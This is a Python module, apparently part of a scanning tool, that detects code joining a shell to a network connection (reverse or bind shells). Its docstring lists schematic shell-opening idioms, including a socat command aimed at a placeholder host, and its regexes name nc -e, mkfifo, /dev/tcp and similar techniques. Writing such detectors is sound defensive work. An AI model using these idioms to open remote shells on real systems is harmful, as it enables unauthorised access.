"""Shells that a program joins with a connection: whoever is at the other end types.

A connection is opened or waited for, a shell is started, and the streams of one become those of the
other. Languages differ in how streams are joined; there are few ways, and hardly another use.

    connect(s, ..); dup2(s, 0); execl("/bin/sh", ..)               streams are copied
    c.pipe(p.stdin); p.stdout.pipe(c)   with p = spawn("bash")      streams are piped
    p.Stdin, p.Stdout = conn, conn      with p = Command("sh")      streams are set
    socat TCP:host:1 EXEC:/bin/sh                                   one program does it all
"""

from __future__ import annotations

from signoff.actions.vocabulary import lazy_re2

_READ = 60_000  # characters
_SHELL = (
    r"[\"'`](?:/\S{0,40}/)?(?:(?:ba|z|da|k|a|fi)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?|pwsh)[\"'`]"
)
_ANY_SHELL = rf"(?:{_SHELL}|(?:process\.)?\benv\b[^\n]{{0,30}}SHELL|getenv\(\s*[\"']SHELL)"
_CONNECTION = lazy_re2(
    r"(?i)\bAF_INET6?\b|\bPF_INET\b|create_?connection\s*\(|IO::Socket::INET|TCPSocket|TCPServer"
    r"|TcpStream|TcpListener"
    r"|TcpClient|TcpListener|\bnet\.(?:Dial|Listen|connect|createConnection|createServer|Socket)"
    r"|\btls\.(?:connect|Dial)"
    r"|\bfsockopen|stream_socket_client|gen_tcp[:.]|\bSocket\s*\(|\bSocket\.\s|ServerSocket"
    r"|WebSocket|socket\.socket\s*\("
    r"|sockaddr_in\b"
)
_STARTS = lazy_re2(
    r"(?i)(?:\bexec[lv]?p?e?\w{0,3}|spawn\w*|popen\w*|Popen|Command(?:Context|::new)?|run|call"
    r"|system|Process(?:Builder)?"
    rf"|start|forkpty|exec\.Command\w*"
    r"|posix_spawnp?)\s*[!]?\s*[(\[ ]\s*(?:[\w.&]+\s*,\s*)?\[?\s*(?:[\w.]{1,30}\(\s*)?"
    rf"{_ANY_SHELL}|\b(?:FileName|launchPath|executablePath)\s*=\s*{_ANY_SHELL}"
)
_JOINS = (
    lazy_re2(r"\bdup2\s*\(|\bdup3\s*\(|syscall\.Dup2|nix::unistd::dup2"),
    lazy_re2(
        r"(?s)\.pipe\s*\(\s*\w+\.stdin\b.{0,400}\.stdout\.pipe\s*\("
        r"|\.stdout\.pipe\s*\(.{0,400}\.pipe\s*\(\s*\w+\.stdin\b"
    ),
    lazy_re2(
        r"(?i)\bstd(?:in|out)\b[^=\n]{0,60}=\s*(?:\w*conn\w*|\w*sock\w*|client|c|s)\b"
        r"|\bstdin\s*[(=:]\s*(?:Stdio::from|\w{0,20}from_raw_fd|unsafe|\w*sock\w*|\w*conn\w*"
        r"|s\.fileno|c\.fileno)"
    ),
    lazy_re2(
        r"(?i)\bopen\s*\(?\s*(?:STDIN|STDOUT)\s*,\s*[\"'][<>]{1,2}&|\$std(?:in"
        r"|out)\.reopen\s*[( ]\s*\w"
    ),
    lazy_re2(
        r"(?s)io\.Copy\(\s*\w*[cC]onn\w*\s*,.{0,300}io\.Copy\("
        r"|proc_open\s*\(.{0,600}fwrite\s*\(\s*\$s"
    ),
    # The streams of a process and of a socket, read and written crosswise.
    lazy_re2(
        r"(?s)\bnew\s+(?:Server)?Socket\b.*\bget(?:Input|Output|Error)Stream\b.{0,300}"
        r"\bget(?:Input|Output)Stream\b.{0,300}\bget(?:Input|Output)Stream\b"
        r"|RedirectStandardInput\s*=\s*true.*StandardInput\.Write\w*\("
    ),
)
_ONE_PROGRAM = lazy_re2(
    r"(?i)\bmkfifo\b[^\n]*\bsh\s+-i\b[^\n]*\b(?:nc|ncat|telnet|openssl\s+s_client)\b|\bsocat\b[^\n]*\b(?:tcp|udp|openssl|ssl|sctp)[\w-]*:[^\n]*\b(?:exec"
    r"|system):[\\\"' ]*(?:/\S{0,20}/)?(?:(?:ba|z|da|k|a)?sh|busybox)\b"
    r"|\bsocat\b[^\n]*\b(?:exec|system):[\\\"' ]*(?:/\S{0,20}/)?(?:ba|z|da|k"
    r"|a)?sh\b[^\n]*\b(?:tcp|udp|openssl|ssl)[\w-]*:"
    # Whoever connects gets a shell instead of the question for a login.
    r"|\btelnetd\b[^\n]*\s-l\s*[\"']?(?:/\S{0,20}/)?(?:ba|z|da|k|a)?sh\b"
    r"|\bstream\s+tcp[46]?\s+(?:no)?wait\S*\s+\S+\s+/(?:\S{0,20}/)?(?:ba|z|da|k|a)?sh\b"
    r"|\bn(?:c|cat)\b[^\n]*\s(?:-\w*[ec]|--(?:sh-)?exec)\s+[\"']?(?:/\S{0,20}/)?(?:ba|z|da|k"
    r"|a)?sh\b"
)
# A shell that reads and writes a device of bash; in a list of patterns nothing starts it.
_DEVICE = lazy_re2(
    r"<>\s*/dev/(?:tcp|udp)/[^\n]*\b(?:ba|z|da|k|a)?sh\b[^\n|]{0,20}[<>]&\s*\d"
    r"|\b(?:ba|z|da|k|a)?sh\s+-\w*i\w*\b[^\n]{0,40}[<>&]\s*/dev/(?:tcp|udp)/[\w.$]"
)
_RUNS_LINES = lazy_re2(
    r"(?im)^#!|\w*(?:exec|system|spawn|popen|process|command|shell|start|launch|run)\w*\s*[(=:]"
)
# A prompt of a language whose streams are those of a connection.
_PROMPT = lazy_re2(
    r"(?is)\*in\*.{0,300}\*out\*.{0,400}\brepl\b|code\.interact\s*\(.{0,200}(?:recv|makefile)"
    r"|InteractiveConsole\(.{0,300}(?:recv|makefile)"
)
# The exec node of Node-RED with no command of its own: the message is the command.
_FLOW_RUNS = lazy_re2(
    r"\"type\"\s*:\s*\"exec\"[^{}]{0,300}\"command\"\s*:\s*\"(?:(?:ba"
    r"|da)?sh\s+-c)?\s*\"[^{}]{0,200}\"addpay\"\s*:\s*(?:\"(?:payload|true)|true)"
)
_FLOW_TAKES = lazy_re2(
    r"\"type\"\s*:\s*\"(?:mqtt|http|tcp|udp|websocket|amqp|telegram|slack|discord)[\w -]*\b(?:in"
    r"|receiver|command)\""
)


def joined_shell(text: str) -> str:
    """Return where a shell gets the streams of a connection, "" if nowhere."""
    head = text[:_READ]
    one = _ONE_PROGRAM.search(head)
    if one is not None:
        return str(one.group())
    device = _DEVICE.search(head)
    if device is not None and _RUNS_LINES.search(head) is not None:
        return str(device.group())
    flow = _FLOW_RUNS.search(head)
    if flow is not None and _FLOW_TAKES.search(head) is not None:
        return str(flow.group())
    if _CONNECTION.search(head) is None:
        return ""
    prompt = _PROMPT.search(head)
    if prompt is not None:
        return str(prompt.group())
    started = _STARTS.search(head)
    is_joined = started is not None and any([join.search(head) for join in _JOINS])
    return str(started.group()) if started is not None and is_joined else ""
